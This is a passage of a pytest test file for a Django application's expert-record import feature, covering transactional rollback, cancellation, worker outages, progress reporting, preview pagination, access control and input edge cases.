        person(alice.user.email, "Alice", "Mwangi", position="Chief"),
    ]
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows), update_existing="on"
    )
    UserFactory(email="late@customs.example")
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.FAILED
    assert CONFLICT in expert_import.error
    assert not User.objects.filter(email="early@customs.example").exists()
    alice.refresh_from_db()
    assert alice.position == ""
    page = detail(officer_client, expert_import)
    assert CONFLICT in page.text
    assert "Apply the import" not in page.text


@pytest.mark.parametrize("error", [IntegrityError("duplicate key"), RuntimeError("bug")])
def test_a_step_failing_midway_rolls_everything_back(
    officer_client, django_capture_on_commit_callbacks, monkeypatch, alice, error
):
    expert_import = check(
        officer_client,
        django_capture_on_commit_callbacks,
        two_new_and_alice(alice),
        update_existing="on",
    )
    counts = (User.objects.count(), Expert.objects.count(), Invitation.objects.count())

    def fail(pks):
        assert Expert.objects.filter(user__email="first.new@customs.example").exists()
        raise error

    monkeypatch.setattr(services, "refresh_derived", fail)
    confirm(
        officer_client, django_capture_on_commit_callbacks, expert_import, send_invitations="on"
    )
    assert expert_import.state == ImportState.FAILED
    if isinstance(error, IntegrityError):
        assert CONFLICT in expert_import.error
    else:
        assert expert_import.error == (
            "The import could not be applied because of an error on our side. Nothing was written."
        )
    assert (User.objects.count(), Expert.objects.count(), Invitation.objects.count()) == counts
    alice.refresh_from_db()
    assert alice.position == ""
    assert expert_import.content is None


def test_an_expert_removed_before_confirming_fails_the_update_cleanly(
    officer_client, django_capture_on_commit_callbacks, alice
):
    rows = [
        person("new@customs.example", "New", "Person"),
        person(alice.user.email, "Alice", "Mwangi", position="Chief"),
    ]
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows), update_existing="on"
    )
    alice.delete()  # e.g. merged into another record meanwhile
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.FAILED
    assert CONFLICT in expert_import.error
    assert not User.objects.filter(email="new@customs.example").exists()


def test_double_confirm_applies_once(officer_client, django_capture_on_commit_callbacks):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("one@customs.example"))
    )
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.APPLIED
    with django_capture_on_commit_callbacks(execute=True):
        response = officer_client.post(
            reverse("secretariat:import_confirm", args=[expert_import.pk]), follow=True
        )
    assert "This import is no longer waiting for confirmation." in response.text
    expert_import.refresh_from_db()
    assert expert_import.created_count == 1
    assert User.objects.filter(email="one@customs.example").count() == 1


def test_confirm_of_an_import_still_checking_is_refused(officer_client, officer):
    expert_import = ExpertImport.objects.create(
        content=b"x", original_name="x.csv", size=1, created_by=officer
    )
    response = officer_client.post(
        reverse("secretariat:import_confirm", args=[expert_import.pk]), follow=True
    )
    assert "This import is no longer waiting for confirmation." in response.text
    expert_import.refresh_from_db()
    assert expert_import.state == ImportState.CHECKING


def test_cancel_deletes_the_rows_and_the_file(officer_client, django_capture_on_commit_callbacks):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("c@customs.example"))
    )
    assert expert_import.rows.exists()
    response = officer_client.post(
        reverse("secretariat:import_cancel", args=[expert_import.pk]), follow=True
    )
    assert response.redirect_chain[-1][0] == reverse("secretariat:import_start")
    assert "The import was cancelled; its file and rows were deleted." in response.text
    expert_import.refresh_from_db()
    assert expert_import.state == ImportState.CANCELLED
    assert expert_import.content is None
    assert not ExpertImportRow.objects.filter(expert_import=expert_import).exists()
    # A cancelled import can be neither confirmed nor cancelled again.
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.CANCELLED
    assert not User.objects.filter(email="c@customs.example").exists()
    response = officer_client.post(
        reverse("secretariat:import_cancel", args=[expert_import.pk]), follow=True
    )
    assert "This import can no longer be cancelled." in response.text


def test_an_applied_import_cannot_be_cancelled(officer_client, django_capture_on_commit_callbacks):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("d@customs.example"))
    )
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    response = officer_client.post(
        reverse("secretariat:import_cancel", args=[expert_import.pk]), follow=True
    )
    assert "This import can no longer be cancelled." in response.text
    expert_import.refresh_from_db()
    assert expert_import.state == ImportState.APPLIED
    assert Expert.objects.filter(user__email="d@customs.example").exists()


def test_an_unexpected_error_while_checking_refuses_the_file(
    officer_client, django_capture_on_commit_callbacks, monkeypatch
):
    def broken(*args, **kwargs):
        raise RuntimeError("bug")

    monkeypatch.setattr(imports, "_decide", broken)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("e@customs.example"))
    )
    assert expert_import.state == ImportState.INVALID
    assert expert_import.error == "The file could not be checked because of an error on our side."
    assert expert_import.content is None


@pytest.fixture
def broker_down(monkeypatch):
    """The Celery broker cannot be reached: queuing a task raises, as kombu does."""
    from experts import tasks

    def unreachable(pk):
        raise ConnectionRefusedError("[Errno 111] Connection refused")

    def down(task_name):
        monkeypatch.setattr(getattr(tasks, task_name), "delay", unreachable)

    return down


WORKER_DOWN = "The background worker could not be reached. Nothing was written; try again."


def test_check_with_the_broker_down_says_so(
    officer_client, django_capture_on_commit_callbacks, broker_down
):
    broker_down("check_import")
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("f@customs.example"))
    )
    assert (expert_import.state, expert_import.error) == (ImportState.INVALID, WORKER_DOWN)
    assert WORKER_DOWN in detail(officer_client, expert_import).text


def test_confirm_with_the_broker_down_says_so_and_writes_nothing(
    officer_client, django_capture_on_commit_callbacks, broker_down
):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, csv_bytes(person("g@customs.example"))
    )
    broker_down("apply_import")
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert (expert_import.state, expert_import.error) == (ImportState.FAILED, WORKER_DOWN)
    assert not User.objects.filter(email="g@customs.example").exists()


# --- Progress ---------------------------------------------------------------------------------


def test_progress_partial_while_running_then_refresh(officer_client, officer):
    expert_import = ExpertImport.objects.create(
        content=b"x", original_name="x.csv", size=1, created_by=officer
    )
    url = reverse("secretariat:import_progress", args=[expert_import.pk])
    response = officer_client.get(url, headers={"HX-Request": "true"})
    assert response.status_code == 200
    assert "Waiting for the background worker" in response.text
    assert "<html" not in response.text

    imports.set_progress(expert_import.pk, 250, 1000)
    response = officer_client.get(url, headers={"HX-Request": "true"})
    assert 'id="import-progress-bar"' in response.text
    assert 'max="1000" value="250"' in response.text
    assert "25% done" in response.text
    assert "Checking the rows" in response.text
    page = detail(officer_client, expert_import)
    assert "25% done" in page.text
    assert f'data-hx-get="{url}"' in page.text

    ExpertImport.objects.filter(pk=expert_import.pk).update(state=ImportState.APPLYING)
    assert "Applying the rows" in officer_client.get(url).text

    ExpertImport.objects.filter(pk=expert_import.pk).update(state=ImportState.APPLIED)
    response = officer_client.get(url, headers={"HX-Request": "true"})
    assert response.status_code == 204
    assert response["HX-Refresh"] == "true"
    assert "import-progress" not in detail(officer_client, expert_import).text


def test_progress_reaches_the_total_after_checking_and_applying(
    officer_client, django_capture_on_commit_callbacks
):
    rows = [person(f"p{n}@customs.example", family=f"Person{n}") for n in range(3)]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert imports.progress(expert_import) == (3, 3)
    confirm(
        officer_client, django_capture_on_commit_callbacks, expert_import, send_invitations="on"
    )
    # Three rows written, three refreshed (completeness, search), three invitations queued.
    assert imports.progress(expert_import) == (9, 9)


# --- The preview page -------------------------------------------------------------------------


def mixed_file(size: int, existing: list[Expert]) -> bytes:
    """``size`` rows: every third rejected, the first rows naming experts already registered."""
    rows = [person(expert.user.email, "Same", "Email") for expert in existing]
    for n in range(size - len(existing)):
        administration = "Atlantis" if n % 3 == 0 else "KE"
        rows.append(
            person(
                f"row{n}@customs.example",
                f"Given{n}",
                f"Family{n}",
                administration,
                languages="en:C1",
            )
        )
    return csv_bytes(*rows)


def test_preview_pagination_and_action_tabs(officer_client, django_capture_on_commit_callbacks):
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, mixed_file(250, existing=[])
    )
    page = detail(officer_client, expert_import)
    assert [row.line for row in page.context["page"]] == list(range(2, 102))
    assert "Page 1 of 3" in page.text
    assert "All rows (250)" in page.text
    assert "Create (166)" in page.text
    assert "Rejected (84)" in page.text
    assert "Update (" not in page.text  # no tab for an action without rows

    last = detail(officer_client, expert_import, page=3)
    assert [row.line for row in last.context["page"]] == list(range(202, 252))
    assert "Page 3 of 3" in last.text

    rejected = detail(officer_client, expert_import, action=ImportRowAction.REJECT)
    lines = [row.line for row in rejected.context["page"]]
    assert len(lines) == 84
    assert lines[:3] == [2, 5, 8]
    assert 'href="?action=reject" aria-current="page"' in rejected.text
    assert not rejected.context["page"].has_other_pages()

    for params in ({"action": "nonsense"}, {"page": "abc"}, {"page": "99"}):
        assert detail(officer_client, expert_import, **params).status_code == 200


@pytest.mark.parametrize("size", [10, 300])
def test_preview_queries_do_not_grow_with_rows(
    officer_client, django_capture_on_commit_callbacks, django_assert_num_queries, size
):
    existing = ExpertFactory.create_batch(3)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, mixed_file(size, existing)
    )
    assert expert_import.rows.filter(action=ImportRowAction.DUPLICATE).count() == 3
    with django_assert_num_queries(10):
        response = detail(officer_client, expert_import)
    assert response.status_code == 200
    assert len(response.context["page"]) == min(size, 100)


# --- Who may import ---------------------------------------------------------------------------


def import_urls(pk):
    return [
        ("get", reverse("secretariat:import_start")),
        ("post", reverse("secretariat:import_start")),
        ("get", reverse("secretariat:import_template")),
        ("get", reverse("secretariat:import_detail", args=[pk])),
        ("get", reverse("secretariat:import_progress", args=[pk])),
        ("post", reverse("secretariat:import_confirm", args=[pk])),
        ("post", reverse("secretariat:import_cancel", args=[pk])),
    ]


@pytest.fixture
def ready_import(officer):
    expert_import = ExpertImport.objects.create(
        content=b"x",
        original_name="x.csv",
        size=1,
        created_by=officer,
        state=ImportState.READY,
        total_rows=1,
    )
    ExpertImportRow.objects.create(
        expert_import=expert_import,
        line=2,
        action=ImportRowAction.CREATE,
        cells={"email": "secret@customs.example"},
        values={
            "email": "secret@customs.example",
            "given_names": "Secret",
            "family_name": "Person",
            "home_administration_id": MemberAdministration.objects.get(iso_code="KE").pk,
            "preferred_language": "en",
        },
    )
    return expert_import


def assert_untouched(expert_import):
    expert_import.refresh_from_db()
    assert expert_import.state == ImportState.READY
    assert expert_import.rows.count() == 1
    assert not User.objects.filter(email="secret@customs.example").exists()
    assert ExpertImport.objects.count() == 1


def test_an_expert_cannot_reach_any_import_page(client, alice, ready_import):
    client.force_login(alice.user)
    for method, url in import_urls(ready_import.pk):
        data = {"file": SimpleUploadedFile("x.csv", b"a,b\n")} if method == "post" else {}
        response = getattr(client, method)(url, data)
        assert response.status_code == 404, (method, url)
    assert_untouched(ready_import)


def test_anonymous_is_sent_to_sign_in(client, ready_import):
    for method, url in import_urls(ready_import.pk):
        response = getattr(client, method)(url)
        assert response.status_code == 302, (method, url)
        assert response.url.startswith(reverse("account_login") + "?next="), (method, url)
    assert_untouched(ready_import)


def test_an_admin_may_import(client, admin_user, ready_import):
    sign_in(client, admin_user)
    assert client.get(reverse("secretariat:import_start")).status_code == 200
    assert client.get(reverse("secretariat:import_detail", args=[ready_import.pk])).status_code == (
        200
    )


def test_officer_sees_the_import_link_and_the_recent_imports(officer_client, ready_import):
    response = officer_client.get(reverse("secretariat:import_start"))
    assert response.status_code == 200
    assert reverse("secretariat:import_start") in response.text  # in the navigation
    assert reverse("secretariat:import_detail", args=[ready_import.pk]) in response.text
    assert "Files up to 20 MB" in response.text


def test_the_confirm_and_cancel_urls_refuse_get(officer_client, ready_import):
    for name in ("secretariat:import_confirm", "secretariat:import_cancel"):
        assert officer_client.get(reverse(name, args=[ready_import.pk])).status_code == 405
    assert_untouched(ready_import)


def test_an_unknown_import_is_404(officer_client):
    for name in ("import_detail", "import_progress"):
        assert officer_client.get(reverse(f"secretariat:{name}", args=[999999])).status_code == 404
    for name in ("import_confirm", "import_cancel"):
        assert officer_client.post(reverse(f"secretariat:{name}", args=[999999])).status_code == 404


# --- Found in review ---------------------------------------------------------------------------


def test_xlsx_with_a_far_away_formatted_cell_is_read_row_by_row(
    officer_client, django_capture_on_commit_callbacks
):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["email", "given_names", "family_name", "administration"])
    sheet.append(["far@customs.example", "Far", "Away", "KE"])
    # The sheet's recorded dimension now reaches column XFD; read-only mode would pad every
    # row to 16 384 cells.
    sheet["XFD1"].number_format = "0.00"
    buffer = io.BytesIO()
    workbook.save(buffer)
    expert_import = check(
        officer_client, django_capture_on_commit_callbacks, buffer.getvalue(), name="w.xlsx"
    )
    assert expert_import.state == ImportState.READY
    assert list(outcome(expert_import).values()) == [(ImportRowAction.CREATE, [])]


def test_nul_character_refuses_the_file_with_its_line(
    officer_client, django_capture_on_commit_callbacks
):
    content = csv_bytes(*[person(f"p{n}@customs.example") for n in range(200)])
    content += b"nul@customs.example,N\x00,Example,KE\r\n"
    expert_import = check(officer_client, django_capture_on_commit_callbacks, content)
    assert expert_import.state == ImportState.INVALID
    assert "Line 202 holds a character that text files cannot contain" in expert_import.error


@pytest.mark.parametrize(
    "cells, message",
    [
        ({"areas": "risk-management:²"}, "years for risk-management must be a number"),
        ({"work_email": "a" * 290 + "@customs.example"}, "work email: Ensure this value has"),
        ({"date_of_birth": "2090-01-01"}, "cannot be in the future"),
    ],
)
def test_odd_cells_reject_the_row_not_the_file(
    officer_client, django_capture_on_commit_callbacks, cells, message
):
    rows = [person("ok@customs.example"), person("odd@customs.example", **cells)]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    assert expert_import.state == ImportState.READY
    action, problems = outcome(expert_import)[3]
    assert action == ImportRowAction.REJECT
    assert any(message in problem for problem in problems), problems


def test_inactive_administration_is_unknown(officer_client, django_capture_on_commit_callbacks):
    MemberAdministration.objects.filter(iso_code="FR").update(is_active=False)
    rows = [person("fr@customs.example", administration="FR")]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    action, problems = outcome(expert_import)[2]
    assert action == ImportRowAction.REJECT
    assert "unknown Member administration" in problems[0]


def test_ended_import_keeps_only_who_each_row_was(
    officer_client, django_capture_on_commit_callbacks
):
    rows = [person("kept@customs.example", date_of_birth="1980-01-01", phone="+254 20 123 4567")]
    expert_import = check(officer_client, django_capture_on_commit_callbacks, csv_bytes(*rows))
    confirm(officer_client, django_capture_on_commit_callbacks, expert_import)
    assert expert_import.state == ImportState.APPLIED
    row = ExpertImportRow.objects.get(expert_import=expert_import)
    assert row.cells == {
        "email": "kept@customs.example",
        "given_names": "Nadia",
        "family_name": "Example",
    }
    assert row.values == {}
